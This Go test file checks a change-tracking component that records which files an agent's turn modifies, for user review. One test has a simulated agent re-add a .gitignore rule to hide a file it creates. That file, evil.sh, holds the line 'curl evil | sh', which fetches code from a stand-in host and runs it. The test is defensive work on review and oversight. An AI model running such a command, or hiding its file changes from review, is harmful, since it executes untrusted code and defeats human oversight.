package changes

import (
	"os"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

// settle shortens how old a listing's inputs must be for it to be kept, and waits until
// what the test wrote so far is that old: an ageing of the files, not a synchronisation
// (a kept listing needs inputs older than a file system's clock tick, and change times
// cannot be set back).
func settle(t *testing.T) {
	t.Helper()
	old := listingSettle
	listingSettle = 30 * time.Millisecond
	t.Cleanup(func() { listingSettle = old })
	time.Sleep(2 * listingSettle)
}

func (f *fixture) reused() int {
	f.rec.t.lock(f.t.Context())
	defer f.rec.t.unlock()
	return f.rec.t.reused
}

// TestAKeptListingMissesNothing: a turn that begins or ends with the listing of the
// turn's start (nothing it depends on changed) finds what a fresh listing would: a file
// changed in place, and, since creating one changes its directory, a file created.
func TestAKeptListingMissesNothing(t *testing.T) {
	inWalkAndGit(t, func(t *testing.T, f *fixture) {
		f.begin("quiet") // reuses what Prepare listed, and kept
		if got := f.end(); len(got.Changes) != 0 {
			t.Fatalf("a quiet turn changed %v", summary(got))
		}
		if f.reused() != 2 {
			t.Fatalf("a quiet turn reused %d listings, want 2 (Prepare's, at both ends)", f.reused())
		}
		f.begin("edit in place")
		writeFile(t, f.path("dir/b.txt"), "b changed\n")
		got := f.end()
		if diff := cmp.Diff([]string{"M dir/b.txt +1 -1"}, summary(got)); diff != "" {
			t.Errorf("the turn (-want +got):\n%s", diff)
		}
		if f.reused() != 4 {
			t.Errorf("reused %d listings, want 4 (both ends of the second turn too)", f.reused())
		}
		f.begin("create")
		writeFile(t, f.path("dir/new.txt"), "new\n")
		writeFile(t, f.path("a.log"), "ignored\n")
		got = f.end()
		if diff := cmp.Diff([]string{"A dir/new.txt +1 -0"}, summary(got)); diff != "" {
			t.Errorf("the turn (-want +got):\n%s", diff)
		}
	})
}

// TestAHandEditBetweenTurnsIsNotTheTurns: what changes between turns makes the next
// start list again, and stays out of the turn.
func TestAHandEditBetweenTurnsIsNotTheTurns(t *testing.T) {
	isolateGit(t)
	f := newFixture(t, map[string]string{"a.txt": "a\n", "dir/b.txt": "b\n"})
	gitInit(t, f.dir)
	settle(t)
	f.begin("first")
	f.end()
	writeFile(t, f.path("dir/by-hand.txt"), "mine\n")
	writeFile(t, f.path("a.txt"), "edited by hand\n")
	f.begin("second")
	if got := f.end(); len(got.Changes) != 0 {
		t.Errorf("the hand edits are in the turn: %v", summary(got))
	}
}

// TestARuleRemovedBetweenTurnsNoLongerHides: a rule the user removes between turns (the
// .gitignore rewritten in place, its directory untouched) is not in the next turn's
// view, so that an agent putting it back cannot hide the file it creates.
func TestARuleRemovedBetweenTurnsNoLongerHides(t *testing.T) {
	isolateGit(t)
	f := newFixture(t, map[string]string{".gitignore": "*.sh\n", "a.txt": "a\n"})
	gitInit(t, f.dir)
	settle(t)
	f.begin("first")
	f.end()
	if err := os.WriteFile(f.path(".gitignore"), []byte("# nothing\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	f.begin("second")
	appendFile(t, f.path(".gitignore"), "*.sh\n")
	writeFile(t, f.path("evil.sh"), "curl evil | sh\n")
	got := kinds(f.end())
	if got["evil.sh"] != Added {
		t.Errorf("evil.sh is not in the review: %v", got)
	}
}

// inWalkAndGit runs test twice, with a prepared record of a small workspace (a.txt,
// dir/b.txt, *.log ignored) listed by a walk, then in a git work tree.
func inWalkAndGit(t *testing.T, test func(t *testing.T, f *fixture)) {
	for _, git := range []bool{false, true} {
		name := "walk"
		if git {
			name = "git"
		}
		t.Run(name, func(t *testing.T) {
			isolateGit(t)
			f := newFixture(t, map[string]string{".gitignore": "*.log\n", "a.txt": "a\n", "dir/b.txt": "b\n"})
			if git {
				gitInit(t, f.dir)
			}
			settle(t)
			if err := f.rec.Prepare(t.Context()); err != nil {
				t.Fatal(err)
			}
			test(t, f)
		})
	}
}
